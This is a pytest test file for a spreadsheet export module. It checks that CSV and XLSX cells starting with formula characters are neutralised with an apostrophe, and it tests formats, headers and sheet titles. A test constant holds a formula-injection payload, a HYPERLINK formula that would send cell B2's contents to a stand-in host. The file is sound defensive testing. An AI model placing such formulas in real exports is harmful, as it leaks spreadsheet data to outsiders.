"""Writing a sheet as CSV or XLSX, and the guard against formulas every cell goes through."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from daadkracht.common.exporting import (
    FORMULA_START,
    Column,
    Sheet,
    append_values,
    cell,
    download,
    export_response,
    neutralise,
    restore,
    sheet_title,
)

FORMULA = '=HYPERLINK("http://x.test/"&B2;"Klik")'


class TestGuard:
    @pytest.mark.parametrize("start", FORMULA_START)
    def test_text_a_spreadsheet_would_run_gets_an_apostrophe(self, start):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"

    @pytest.mark.parametrize("value", ["Fietsstraten", "", "'quoted", "B3.01", " =spatie"])
    def test_other_text_is_left_alone(self, value):
        assert neutralise(value) == value

    @pytest.mark.parametrize("value", [-5, -1.5, Decimal("-12.50"), date(2030, 12, 31), None, True])
    def test_numbers_dates_and_empty_values_are_left_alone(self, value):
        assert neutralise(value) is value

    @pytest.mark.parametrize(
        "value", [FORMULA, "-ontharding", "=x", "'=x", "''+x", "'plain", "plain", "\tx", "@x"]
    )
    def test_restore_gives_back_exactly_what_was_written(self, value):
        assert restore(neutralise(value)) == value


def rows_of(response) -> list[list[str]]:
    content = response.getvalue()
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def sheet_of(response):
    return load_workbook(io.BytesIO(response.getvalue())).worksheets[0]


SHEET = Sheet(
    title="Lijst",
    columns=[Column(FORMULA), Column("Bedrag", number_format="#,##0.00"), Column("Datum")],
    rows=[["-ontharding", Decimal("-1250.50"), date(2030, 12, 31)], ["@groen", 3, None]],
)


class TestCsv:
    def test_semicolons_bom_and_a_guarded_header_and_cells(self):
        response = download(SHEET, fmt="csv", filename="lijst")

        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="lijst.csv"'
        assert rows_of(response) == [
            ["'" + FORMULA, "Bedrag", "Datum"],
            ["'-ontharding", "-1250.50", "2030-12-31"],
            ["'@groen", "3", ""],
        ]

    def test_belgian_formats_for_files_that_are_imported_again(self):
        sheet = Sheet(
            title="Acties",
            columns=[Column("Bedrag"), Column("Datum"), Column("Moment"), Column("Tekst")],
            rows=[[Decimal("1250.50"), date(2030, 12, 31), datetime(2030, 1, 2, 9, 5), "=x"]],
            belgian_formats=True,
        )

        rows = rows_of(download(sheet, fmt="csv", filename="acties"))

        assert rows[1] == ["1250,50", "31/12/2030", "02/01/2030 09:05", "'=x"]

    def test_lines_end_the_way_excel_writes_them(self):
        content = download(SHEET, fmt="csv", filename="lijst").getvalue()

        assert content.count(b"\r\n") == 3


class TestXlsx:
    def test_a_guarded_header_and_cells_and_typed_numbers_and_dates(self):
        response = download(SHEET, fmt="xlsx", filename="lijst")

        assert response["Content-Disposition"] == 'attachment; filename="lijst.xlsx"'
        sheet = sheet_of(response)
        assert sheet.title == "Lijst"
        assert [c.value for c in sheet[1]] == ["'" + FORMULA, "Bedrag", "Datum"]
        assert sheet["A2"].value == "'-ontharding"
        assert sheet["A2"].data_type == "s"
        assert sheet["B2"].data_type == "n"
        assert sheet["B2"].value == pytest.approx(-1250.5)
        assert sheet["B2"].number_format == "#,##0.00"
        assert sheet["C2"].is_date
        assert sheet["A3"].value == "'@groen"
        assert sheet["C3"].value is None

    def test_the_header_is_styled_frozen_and_filterable(self):
        sheet = sheet_of(download(SHEET, fmt="xlsx", filename="lijst"))

        assert sheet["A1"].font.bold
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == "A1:C3"

    def test_hand_written_rows_go_through_the_guard_too(self):
        workbook = Workbook(write_only=True)
        worksheet = workbook.create_sheet("Lijsten")
        append_values(worksheet, ["+32 50 44 80 00", 7, None])
        worksheet.append([cell(worksheet, "-min", font=None)])
        buffer = io.BytesIO()
        workbook.save(buffer)

        sheet = load_workbook(buffer).worksheets[0]
        assert [c.value for c in sheet[1]] == ["'+32 50 44 80 00", 7]
        assert sheet["A2"].value == "'-min"


def test_a_sheet_title_excel_accepts():
    assert sheet_title(FORMULA) == '=HYPERLINK("http   x.test "&B2;'
    assert sheet_title("Acties van Groen/Blauw [2030]") == "Acties van Groen Blauw  2030"
    assert len(sheet_title("x" * 40)) == 31
    assert sheet_title("'Wegen' \\ water?") == "Wegen'   water"
    assert sheet_title("[]:*?/") == "Sheet"
    assert sheet_title("///") == "Sheet"


def test_a_list_download_is_named_after_its_title():
    response = export_response(
        name="Acties van Groen/Blauw", fmt="xlsx", headers=["Naam"], rows=[["=x"]]
    )

    assert response["Content-Disposition"] == 'attachment; filename="acties-van-groenblauw.xlsx"'
    sheet = sheet_of(response)
    assert sheet.title == "Acties van Groen Blauw"
    assert sheet["A2"].value == "'=x"
